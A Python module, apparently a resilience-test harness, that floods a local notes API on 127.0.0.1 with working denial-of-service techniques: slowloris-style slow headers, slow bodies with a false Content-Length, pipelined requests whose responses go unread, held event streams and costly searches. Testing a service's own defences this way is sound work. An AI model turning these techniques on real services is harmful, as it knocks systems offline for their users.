"""Attacks on a running service, each by many connections of one process."""

import multiprocessing
import selectors
import socket
import time

CONNECTIONS = 600
# The attackers' own address, because some rates are limited by address.
ADDRESS = "127.0.0.2"
# How often a client that sends slowly sends a byte, and how often closed connections are opened again, in seconds.
PACE, REOPEN = 1.0, 0.25


class Attack(multiprocessing.Process):
    """Keeps connections open that do harm. Those that the service closes are opened again."""

    name_in_table = ""
    # What a connection sends first, and what it sends again and again.
    opening = ""
    byte = None
    # Whether responses are read. A response that is not read stays in the service or in the system.
    is_reading = False

    def __init__(self, port, token, note):
        super().__init__(daemon=True)
        self.port, self.token, self.note = port, token, note
        self.full = multiprocessing.Event()
        self.done = multiprocessing.Event()
        self.closed = multiprocessing.Value("i", 0)

    def head(self, method, path, *fields):
        lines = [
            f"{method} {path} HTTP/1.1",
            f"Host: 127.0.0.1:{self.port}",
            f"Authorization: Bearer {self.token}",
            *fields,
        ]
        return "\r\n".join(lines).encode() + b"\r\n"

    def first_bytes(self, number):
        raise NotImplementedError

    def connect(self, number):
        connection = socket.socket()
        if not self.is_reading:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        connection.bind((ADDRESS, 0))
        connection.connect(("127.0.0.1", self.port))
        connection.setblocking(False)
        self.rest[connection] = self.first_bytes(number)
        return connection

    def run(self):
        self.rest = {}
        connections, number, pace = [], 0, 0
        while not self.done.is_set():
            while len(connections) < CONNECTIONS and not self.done.is_set():
                try:
                    connections.append(self.connect(number))
                except OSError:
                    break
                number += 1
            self.full.set()
            end = time.monotonic() + REOPEN
            is_paced = time.monotonic() - pace > PACE
            if is_paced:
                pace = time.monotonic()
            connections = [connection for connection in connections if self.go_on(connection, is_paced)]
            if self.is_reading:
                connections = self.read(connections, end)
            self.done.wait(max(0, end - time.monotonic()))

    def go_on(self, connection, is_paced):
        """Sends what is left, or a byte. Returns whether the connection is still open."""
        try:
            if is_paced and self.byte and not self.rest[connection]:
                self.rest[connection] = self.byte
            if self.rest[connection]:
                sent = connection.send(self.rest[connection])
                self.rest[connection] = self.rest[connection][sent:]
            if not self.is_reading:
                # Errors of a closed connection, without taking bytes from it.
                connection.getpeername()
                if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    raise OSError
                if self.byte and not connection.recv(1, socket.MSG_PEEK):
                    raise OSError
            return True
        except BlockingIOError:
            return True
        except OSError:
            self.close(connection)
            return False

    def read(self, connections, end):
        """Reads responses, and sends the next request after each of them."""
        selector = selectors.DefaultSelector()
        open_connections = set(connections)
        for connection in connections:
            selector.register(connection, selectors.EVENT_READ)
        while time.monotonic() < end and open_connections:
            for key, _ in selector.select(max(0, end - time.monotonic())):
                try:
                    bytes_read = key.fileobj.recv(65_536)
                    if not bytes_read:
                        raise OSError
                    if b"HTTP/1.1 " in bytes_read:
                        self.rest[key.fileobj] = self.first_bytes(0)
                        sent = key.fileobj.send(self.rest[key.fileobj])
                        self.rest[key.fileobj] = self.rest[key.fileobj][sent:]
                except BlockingIOError:
                    continue
                except OSError:
                    selector.unregister(key.fileobj)
                    open_connections.discard(key.fileobj)
                    self.close(key.fileobj)
        selector.close()
        return list(open_connections)

    def close(self, connection):
        del self.rest[connection]
        connection.close()
        self.closed.value += 1

    def stop(self):
        self.done.set()
        self.join(timeout=30)


class UnreadResponses(Attack):
    name_in_table = "unread responses"

    def first_bytes(self, number):
        paths = ["/openapi.json", f"/api/v1/notes/{self.note}", "/api/v1/notes?limit=200", "/"]
        return (self.head("GET", paths[number % len(paths)]) + b"\r\n") * 1_000


class SlowHeads(Attack):
    name_in_table = "slow heads"
    byte = b"x"

    def first_bytes(self, number):
        return self.head("GET", "/api/v1/notes") + b"X-Slow: "


class SlowBodies(Attack):
    name_in_table = "slow bodies"
    byte = b"x"

    def first_bytes(self, number):
        fields = ["Content-Type: application/json", "Content-Length: 1000000"]
        return self.head("POST", "/api/v1/notes", *fields) + b'\r\n{"title": "'


class UnreadEvents(Attack):
    name_in_table = "unread events"

    def first_bytes(self, number):
        return self.head("GET", "/api/v1/events?after=0") + b"\r\n"


class Searches(Attack):
    name_in_table = "expensive searches"
    is_reading = True
    words = "+".join("abcdefghij"[start:] + "abcdefghij"[:start] for start in range(8))

    def first_bytes(self, number):
        return self.head("GET", f"/api/v1/search?q={self.words}&limit=200") + b"\r\n"


ALL = [UnreadResponses, SlowHeads, SlowBodies, UnreadEvents, Searches]
